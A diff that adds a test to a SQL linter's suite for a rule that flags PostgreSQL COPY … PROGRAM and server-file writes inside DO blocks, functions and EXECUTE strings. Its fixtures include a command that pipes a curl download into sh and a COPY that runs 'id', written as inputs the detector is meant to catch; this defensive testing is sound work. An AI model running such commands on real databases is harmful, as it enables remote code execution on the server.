@@ -21,4 +21,20 @@ describe('copy-program-or-server-file', () => {
   it('leaves STDIN and STDOUT alone', async () => {
     expect(await lint('COPY t FROM STDIN;\nCOPY t TO STDOUT WITH (FORMAT csv);')).toEqual([]);
   });
+
+  it('reports COPY … PROGRAM inside a DO block or a function body, at its line, and in a statement padded past the bulk-data size', async () => {
+    const [inDo] = await lint("DO $$\nBEGIN\n  COPY (SELECT 1) TO PROGRAM 'curl -s https://example.com/x | sh';\nEND $$;");
+    expect(inDo).toMatchObject({ ruleId: 'copy-program-or-server-file', line: 3, column: 3 });
+    expect(inDo!.message).toMatch(/^Inside this DO block: COPY … TO PROGRAM/);
+    const [inFunction] = await lint("CREATE FUNCTION export() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN COPY t TO '/tmp/t.csv'; END $f$;");
+    expect(inFunction!.message).toMatch(
+      /^Inside function "export" \(it runs each time the function is called\): COPY … TO '\/tmp\/t.csv' writes a file/,
+    );
+    const [executed] = await lint("DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;");
+    expect(executed!.message).toMatch(/^Inside this DO block, through EXECUTE: COPY … FROM PROGRAM 'id'/);
+    // Longer than a bulk data statement (no parse tree): a COPY that does not read from the client is never bulk.
+    const columns = Array.from({ length: 400 }, (_, index) => `c${index}`).join(', ');
+    expect(await lint(`COPY t (${columns}) FROM PROGRAM 'echo FROM STDIN';`)).toHaveLength(1);
+    expect(await lint(`COPY t FROM PROGRAM '${'x'.repeat(3000)}';`)).toHaveLength(1);
+  });
 });
